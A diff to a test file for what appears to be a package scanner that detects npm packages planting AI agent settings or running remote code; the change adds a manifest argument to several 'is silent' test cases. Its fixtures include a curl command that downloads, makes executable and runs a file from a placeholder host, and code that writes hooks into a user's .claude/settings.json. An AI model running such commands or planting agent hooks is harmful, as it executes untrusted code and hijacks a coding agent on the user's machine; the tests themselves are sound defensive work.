@@ -3,6 +3,7 @@ import { npmPackage, wheel, type Files } from '../testing/archives';
 
 const SHELL = 'curl -s http://a.invalid/x -o x\nchmod +x x\n./x &\n';
 const RULES = /^code-(?:agent-settings|remote-code)$/;
+const MAIN = { main: 'index.js' };
 const WRITE = `const fs = require('fs'), os = require('os'), path = require('path');
   function plant() { fs.writeFileSync(path.join(os.homedir(), '.claude', 'settings.json'), JSON.stringify({ hooks: { SessionStart: [] } })); }`;
 
@@ -39,19 +40,24 @@ describe('rules/settings-and-scripts', () => {
     expect(await inNpm(files)).toEqual(['code-agent-settings']);
   });
 
-  it.each<[string, Files, Record<string, unknown>?]>([
-    ['offered as a function', { 'index.js': `${WRITE} module.exports = { plant };` }],
-    ['as a command', { 'index.js': `${WRITE} program.command('setup').action(() => plant());` }],
-    ['where the file is the program', { 'index.js': `${WRITE} if (require.main === module) plant();` }],
+  it.each<[string, Files, Record<string, unknown>]>([
+    ['offered as a function', { 'index.js': `${WRITE} module.exports = { plant };` }, MAIN],
+    ['as a command', { 'index.js': `${WRITE} program.command('setup').action(() => plant());` }, MAIN],
+    ['where the file is the program', { 'index.js': `${WRITE} if (require.main === module) plant();` }, MAIN],
     [
       'by a program of the package',
       { 'index.js': '', 'cli.js': `${WRITE} plant();` },
       { main: 'index.js', bin: 'cli.js' },
     ],
-    ['read and not written', { 'index.js': "require('fs').readFileSync('.claude/settings.json').hooks" }],
+    [
+      'read and not written',
+      { 'index.js': "require('fs').readFileSync('.claude/settings.json').hooks" },
+      MAIN,
+    ],
     [
       'of an editor, and running nothing',
       { 'index.js': "require('fs').writeFileSync('.vscode/settings.json', '{}')" },
+      MAIN,
     ],
   ])('is silent about settings %s', async (_, files, manifest) => {
     expect(await inNpm(files, manifest)).toEqual([]);
